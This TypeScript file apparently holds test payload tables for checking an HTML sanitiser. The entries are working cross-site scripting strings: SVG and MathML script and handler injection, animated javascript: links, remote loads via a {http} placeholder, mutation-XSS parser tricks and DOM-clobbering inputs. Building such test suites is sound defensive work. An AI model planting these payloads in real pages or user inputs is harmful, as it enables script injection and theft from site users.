import type { PayloadTable } from './payload.ts'

/** SVG and MathML with scripts, loads and animated addresses. */
export const FOREIGN: PayloadTable = {
  'svg-script': '<svg><script>{run}</script></svg>',
  'svg-script-href': '<svg><script href="{http}/a.js"></script></svg>',
  'svg-script-xlink': '<svg><script xlink:href="data:text/javascript,{run}"></script></svg>',
  'svg-image': '<svg><image href="{http}/a.png" width="9" height="9"/></svg>',
  'svg-image-xlink': '<svg><image xlink:href="{http}/a.png" width="9" height="9"/></svg>',
  'svg-image-error': '<svg><image href="data:," onerror="{run}"/></svg>',
  'svg-fe-image':
    '<svg><filter id="fe"><feImage href="{http}/a.png"/></filter><rect width="9" height="9" filter="url(#fe)"/></svg>',
  'svg-use': '<svg><use href="{http}/a.svg#a"/></svg>',
  'svg-use-data':
    "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='data:,' onerror='{run}'/></svg>#x\"/></svg>",
  'svg-fill': '<svg><rect width="9" height="9" fill="url({http}/a.svg#p)"/></svg>',
  'svg-text-path': '<svg><text><textPath href="{http}/a.svg#a">text</textPath></text></svg>',
  'svg-link-javascript': '<svg width="80" height="20"><a href="javascript:{run}"><text y="15">a link</text></a></svg>',
  'svg-animate-href':
    '<svg width="80" height="20"><a><animate attributeName="href" values="javascript:{run}" fill="freeze" dur="1ms"/><text y="15">a link</text></a></svg>',
  'svg-animate-xlink':
    '<svg width="80" height="20"><a><animate attributeName="xlink:href" from="#" to="javascript:{run}" fill="freeze" dur="1ms"/><text y="15">a link</text></a></svg>',
  'svg-set-href':
    '<svg width="80" height="20"><a><set attributeName="href" to="javascript:{run}"/><text y="15">a link</text></a></svg>',
  'svg-animate-image': '<svg><image width="9" height="9"><set attributeName="href" to="{http}/a.png"/></image></svg>',
  'svg-animate-handler': '<svg><rect width="9" height="9"><set attributeName="onmouseover" to="{run}"/></rect></svg>',
  'svg-animate-begin': '<svg><animate attributeName="x" dur="1ms" onbegin="{run}" onend="{run}"/></svg>',
  'svg-foreign-object':
    '<svg><foreignObject width="99" height="99"><img src="data:," onerror="{run}"><iframe src="{http}/a.html"></iframe></foreignObject></svg>',
  'svg-handler': '<svg><handler type="text/javascript" ev:event="load">{run}</handler></svg>',
  'svg-cdata': '<svg><style><![CDATA[</style><img src="data:," onerror="{run}">]]></style></svg>',
  'svg-title-break': '<svg><title><img src="data:," onerror="{run}"></title></svg>',
  'svg-desc-break': '<svg><desc><img src="data:," onerror="{run}"></desc></svg>',
  'svg-data-image':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'><image href='{http}/a.png'/></svg>\">",
  'svg-iframe': '<svg><iframe src="{http}/a.html"></iframe></svg>',
  'math-javascript': '<math href="javascript:{run}"><mi>x</mi></math>',
  'math-link-javascript': '<math><mrow xlink:href="javascript:{run}"><mi>x</mi></mrow></math>',
  'math-annotation':
    '<math><annotation-xml encoding="text/html"><img src="data:," onerror="{run}"></annotation-xml></math>',
  'math-text-break': '<math><mtext><img src="data:," onerror="{run}"></mtext></math>',
  'math-glyph': '<math><mglyph src="{http}/a.png"></mglyph></math>',
  'math-style': '<math><mi style="background:url({http}/a.png)">x</mi></math>',
}

/** Text that a second parsing turns into something else than the first one saw. */
export const MUTATIONS: PayloadTable = {
  'mutation-noscript': '<noscript><p title="</noscript><img src=data:, onerror={run}>">text</p></noscript>',
  'mutation-math-style':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=data:, onerror={run}&gt;"></table></mtext></math>',
  'mutation-svg-style': '<svg></p><style><i title="</style><img src=data:, onerror={run}>"></i></svg>',
  'mutation-form-nesting':
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img src=data:, onerror={run}>"></form>',
  'mutation-math-comment': '<math><!--</math><img src=data:, onerror={run}>--></math>',
  'mutation-textarea': '<textarea><p title="</textarea><img src=data:, onerror={run}>"></p></textarea>',
  'mutation-title': '<title><p title="</title><img src=data:, onerror={run}>"></title>',
  'mutation-xmp': '<xmp><p title="</xmp><img src=data:, onerror={run}>"></xmp>',
  'mutation-noembed': '<noembed><p title="</noembed><img src=data:, onerror={run}>"></noembed>',
  'mutation-select':
    '<select><template><style><i title="</style></template></select><img src=data:, onerror={run}>"></select>',
  'mutation-comment-bang': '<!-- --!><img src=data:, onerror={run}> -->',
  'mutation-comment-short': '<!--><img src=data:, onerror={run}>-->',
  'mutation-cdata': '<![CDATA[><img src=data:, onerror={run}>]]>',
  'mutation-processing': '<?php echo "<img src=data:, onerror={run}>" ?>',
  'mutation-entity-title': '<a title="&lt;img src=data:, onerror={run}&gt;">title</a>',
  'mutation-escaped-text': '<p>&lt;img src=data:, onerror={run}&gt; &lt;script&gt;{run}&lt;/script&gt;</p>',
  'mutation-backtick': '<div title="``onmouseover={run}">text</div>',
  'mutation-null-byte': '<img src=data:, on\u0000error={run}><scr\u0000ipt>{run}</scr\u0000ipt>',
  'mutation-table': '<table><tr><td><table><img src=data:, onerror={run}><tr></table></td></tr></table>',
  'mutation-caption':
    '<table><caption><svg><desc><table><caption></caption></table></desc><style><i title="</style><img src=data:, onerror={run}>"></svg></caption></table>',
  'mutation-deep': `${'<div>'.repeat(600)}<svg><style><i title="</style><img src=data:, onerror={run}>">${'</div>'.repeat(600)}`,
  'mutation-image-alias': '<image src=data:, onerror={run}>',
  'mutation-template': '<template><template><img src=data:, onerror={run}></template></template>',
}

/** Names that cover properties which the page or a sanitiser reads from the document or a form. */
export const CLOBBERING: PayloadTable = {
  'clobber-bridge':
    '<form id="simak"><input name="call"><input name="on"></form><a id="simak" name="call" href="javascript:{run}">x</a>',
  'clobber-document':
    '<img name="body"><img name="head"><img name="getElementById"><img name="querySelector"><img name="createElement">',
  'clobber-form':
    '<form onclick="{run}"><input name="attributes"><input name="nodeName"><input name="childNodes"><input name="parentNode"><input name="removeChild"></form>',
  'clobber-form-action':
    '<form action="{http}/a" onsubmit="{run}"><input name="action"><input name="hasAttribute"><input name="removeAttribute"><button>send</button></form>',
  'clobber-frame': '<iframe name="simak" srcdoc="<a id=call>x</a><script>{run}</script>"></iframe>',
  'clobber-scripts':
    '<img name="currentScript"><a id="defaultView"></a><a id="trustedTypes"></a><a id="CSS"></a><form name="implementation"></form>',
  'clobber-root': '<div id="root"></div><div id="app"></div><div id="main"></div>',
  'clobber-onclick': '<a id="onclick" href="javascript:{run}">x</a><a id="onerror" href="javascript:{run}">x</a>',
}
